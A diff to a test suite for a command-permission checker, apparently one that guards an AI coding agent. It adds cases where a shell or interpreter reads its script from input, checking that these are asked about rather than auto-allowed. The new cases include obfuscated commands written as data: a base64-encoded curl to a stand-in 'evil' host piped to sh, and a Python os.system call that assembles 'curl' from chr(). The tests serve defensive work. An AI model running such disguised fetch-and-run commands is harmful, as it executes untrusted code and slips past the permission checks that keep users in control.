@@ -50,10 +50,23 @@ describe('attack: a denied command spelled so that only bash sees it', () => {
   it.each(asked)('%j, whose command is a file-name pattern, is asked, never allowed, in bypassPermissions', async (command) => {
     const decision = await decide(command, 'bypassPermissions');
     expect(decision.behavior).toBe('defer');
-    expect(decision.reason).toMatchObject({ type: 'rule', behavior: 'deny', message: expect.stringMatching(/file-name pattern/) });
+    expect(decision.reason).toMatchObject({ type: 'rule', behavior: 'deny', message: expect.stringMatching(/a file-name pattern/) });
   });
 
-  it.each(['ls *', 'cat src/*.ts', 'grep -r x src/*', 'sudo ls *.md', 'echo {a,b}', 'git push-notes', 'curly', 'rmdir x'])(
+  it.each([
+    'echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh',
+    'cat script.txt | bash',
+    'sh < script.txt',
+    'sudo bash < script.txt',
+    'echo "import os; os.system(chr(99)+\'url x\')" | python3',
+    'node < payload.js',
+  ])('%j, a shell or interpreter reading its script from its input, is asked, never allowed, in bypassPermissions', async (command) => {
+    const decision = await decide(command, 'bypassPermissions');
+    expect(decision.behavior).toBe('defer');
+    expect(decision.reason).toMatchObject({ type: 'rule', behavior: 'deny', message: expect.stringMatching(/a script a shell reads from its input/) });
+  });
+
+  it.each(['ls *', 'cat src/*.ts', 'bash build.sh', 'python3 -c "print(1)"', 'echo x | node -e "process.stdin.pipe(process.stdout)"', 'ls | sh -c "cat"', 'grep -r x src/*', 'sudo ls *.md', 'echo {a,b}', 'git push-notes', 'curly', 'rmdir x'])(
     '%j is not taken for a denied command',
     async (command) => {
       expect((await decide(command, 'bypassPermissions')).behavior).toBe('allow');
